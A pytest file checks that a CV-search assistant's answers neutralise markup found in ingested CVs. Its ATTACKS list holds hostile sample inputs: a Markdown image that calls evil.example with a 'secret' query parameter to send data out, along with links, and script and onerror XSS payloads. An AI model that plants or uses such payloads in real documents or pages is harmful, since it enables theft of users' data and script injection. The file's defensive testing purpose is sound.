"""Nothing of a document works in an answer: no link, no image, no HTML, whoever reads the Markdown."""

from __future__ import annotations

import pytest
from cvs import cv
from fakes import FixedChooser

from assistant.assistant import Assistant
from assistant.draft import inert
from assistant.errors import QuestionTooLong
from retrieval.library import Library

ATTACKS = (
    "![x](https://evil.example/a.png?d=secret) Built services in Python.",
    "[Click here](https://evil.example) Built services in Python.",
    "[a][ref] Built services in Python. [ref]: https://evil.example",
    "<img src=x onerror=alert(1)> Built services in Python.",
    "<script>alert(1)</script> Built services in Python.",
)


@pytest.mark.parametrize("bullet", ATTACKS)
@pytest.mark.parametrize(
    "question", ["Who knows Python?", "Tell me about Mira Testova", "Does Mira Testova know Python?"]
)
def test_markup_of_a_cv_does_not_work_in_the_answer(library: Library, bullet: str, question: str) -> None:
    library.ingest_bytes("1.txt", cv(bullet=bullet))
    answer = Assistant(library, FixedChooser(None)).answer(question)  # type: ignore[arg-type]
    assert "Python" in answer.text or "Mira" in answer.text
    for working in ("](", "<", "![", "]: http"):
        assert working not in answer.text


def test_an_address_is_shown_and_is_no_link() -> None:
    assert (
        inert("See https://evil.example/a?b=c, or www.evil.example")
        == "See `https://evil.example/a?b=c`, or `www.evil.example`"
    )
    assert inert(inert("https://evil.example/a")) == "`https://evil.example/a`"


def test_our_own_marks_stay() -> None:
    text = "**Mira**: “Python” [1][2]\n\n| # | Candidate |\n|---|---|\n| 1 | Mira [3] |"
    assert inert(text) == text


@pytest.mark.parametrize("thing", ["x" * 3900, "\t" * 90_000, "( " * 1900, "-" * 3900])
def test_a_question_of_endless_words_or_blanks_is_answered(library: Library, thing: str) -> None:
    library.ingest_bytes("1.txt", cv())
    assistant = Assistant(library, FixedChooser(None))  # type: ignore[arg-type]
    assert assistant.answer(f"who knows {thing} in Berlin?").status in ("answered", "out_of_scope")


def test_a_question_longer_than_is_read_is_refused_with_a_reason(library: Library) -> None:
    with pytest.raises(QuestionTooLong, match="4,000"):
        Assistant(library, FixedChooser(None)).answer("who knows " + "Python " * 1000)  # type: ignore[arg-type]
